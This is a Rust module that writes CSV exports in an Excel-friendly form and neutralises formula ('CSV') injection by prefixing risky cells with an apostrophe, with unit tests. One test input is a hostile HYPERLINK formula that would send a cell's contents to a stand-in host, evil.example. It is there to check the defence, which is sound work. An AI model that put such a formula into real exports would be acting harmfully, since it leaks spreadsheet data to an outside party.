//! CSV as every export writes it, through the `csv` crate: UTF-8 with a byte order mark (Excel
//! otherwise reads Vietnamese as Windows-1252), CRLF line ends and RFC 4180 quoting; text that a
//! spreadsheet would run as a formula is neutralised as OWASP's "CSV Injection" page advises.

use std::borrow::Cow;
use std::io::{self, Write};

/// The byte order mark that makes Excel read the file as UTF-8.
pub const BOM: &str = "\u{feff}";

/// A writer with the exports' settings. Fields are quoted when RFC 4180 needs it (separator,
/// quote, line end) and whenever they hold an apostrophe: the crate quotes its "comment"
/// character wherever it appears, which keeps every neutralised field (see [`neutralise`])
/// quoted, as OWASP advises.
pub fn writer<W: Write>(out: W) -> ::csv::Writer<W> {
    ::csv::WriterBuilder::new()
        .terminator(::csv::Terminator::CRLF)
        .quote_style(::csv::QuoteStyle::Necessary)
        .comment(Some(b'\''))
        .from_writer(out)
}

/// Text as a spreadsheet must show it. Excel and LibreOffice read a cell that starts with `=`,
/// `+`, `-` or `@` (or a tab or carriage return before one) as a formula, which can fetch a URL
/// or run a command when the file is opened or clicked; a leading apostrophe keeps it text. For
/// text cells only: numbers such as `-1.5` are written as they are and stay numbers.
pub fn neutralise(text: &str) -> Cow<'_, str> {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// Writes one record of text fields, each neutralised.
pub fn write_text_record<W: Write, S: AsRef<str>>(
    out: &mut ::csv::Writer<W>,
    fields: &[S],
) -> ::csv::Result<()> {
    for field in fields {
        out.write_field(neutralise(field.as_ref()).as_bytes())?;
    }
    out.write_record(None::<&[u8]>)
}

/// Writes one record of text fields, each neutralised, ended by CRLF.
pub fn write_record<W: Write, S: AsRef<str>>(out: &mut W, fields: &[S]) -> io::Result<()> {
    let mut out = writer(out);
    write_text_record(&mut out, fields)?;
    out.flush()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn fields_with_separators_or_quotes_are_quoted() {
        let mut out = Vec::new();
        write_record(
            &mut out,
            &["a", "b,c", "say \"hi\"", "line\nbreak", "Xã Tân Thành"],
        )
        .unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "a,\"b,c\",\"say \"\"hi\"\"\",\"line\nbreak\",Xã Tân Thành\r\n"
        );
    }

    #[test]
    fn text_a_spreadsheet_would_run_starts_with_a_quoted_apostrophe() {
        let mut out = Vec::new();
        write_record(
            &mut out,
            &[
                "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Mở\")",
                "+1",
                "-1.5",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "a = b",
                "it's",
            ],
        )
        .unwrap();
        assert_eq!(
            String::from_utf8(out).unwrap(),
            "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Mở\"\")\",\"'+1\",\"'-1.5\",\
             \"'@SUM(A1)\",\"'\t=1\",\"'\r=1\",a = b,\"it's\"\r\n"
        );
    }

    #[test]
    fn numbers_written_as_fields_stay_numbers() {
        let mut out = writer(Vec::new());
        out.write_record(["-1.5", "84.75", "-3"]).unwrap();
        let out = out.into_inner().unwrap();
        assert_eq!(String::from_utf8(out).unwrap(), "-1.5,84.75,-3\r\n");
    }
}
